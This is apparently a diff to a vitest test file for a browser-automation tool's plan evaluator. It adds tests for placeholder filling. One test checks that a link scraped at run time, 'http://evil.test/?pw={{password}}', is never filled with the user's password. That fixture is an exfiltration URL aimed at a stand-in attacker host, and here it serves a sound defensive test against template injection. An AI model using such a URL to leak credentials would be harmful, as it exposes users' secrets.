@@ -1,6 +1,7 @@
 // Plan inputs, the heal selector order and --update-plan's rewrite (issue 14).
 import { describe, expect, it } from 'vitest';
-import { fillPlaceholders, planInputs } from '../../../host/replay/inputs.js';
+import { planInputs } from '../../../host/replay/inputs.js';
+import { evaluatePlan } from '../../../host/rtfs/index.js';
 import { rewriteSelectors } from '../../../host/replay/update-plan.js';
 import { healSelectors } from '../../../sidecar/fingerprint-match.js';
 
@@ -16,8 +17,16 @@ describe('plan inputs', () => {
     expect(planInputs(plan, { password: 'pw', city: 'Nice' }).city).toBe('Nice');
   });
 
-  it('fills placeholders inside strings at any depth and leaves other strings alone', () => {
-    expect(fillPlaceholders({ text: 'in {{city}}!', list: ['{{city}}', 'x'], n: 3 }, { city: 'Lyon' })).toEqual({ text: 'in Lyon!', list: ['Lyon', 'x'], n: 3 });
+  it('fills placeholders inside string literals at any depth and leaves other strings alone', async () => {
+    const got = await evaluatePlan('{:text "in {{city}}!" :list ["{{city}}" "x"] :n 3 :kept "\\{{city}}"}', { call: async () => null, inputs: { city: 'Lyon' } });
+    expect(got).toEqual({ text: 'in Lyon!', list: ['Lyon', 'x'], n: 3, kept: '{{city}}' });
+  });
+
+  it('never fills a string the plan got at run time (a page text is not a template)', async () => {
+    const seen: unknown[] = [];
+    const call = async (_id: string, params: Record<string, unknown>) => { seen.push(params); return { href: 'http://evil.test/?pw={{password}}' }; };
+    await evaluatePlan('(let [r (call :web.extract {:selector "a"})] (call :web.navigate {:url (get r :href)}))', { call, inputs: { password: 'hunter2' } });
+    expect(seen[1]).toEqual({ url: 'http://evil.test/?pw={{password}}' });
   });
 });
 
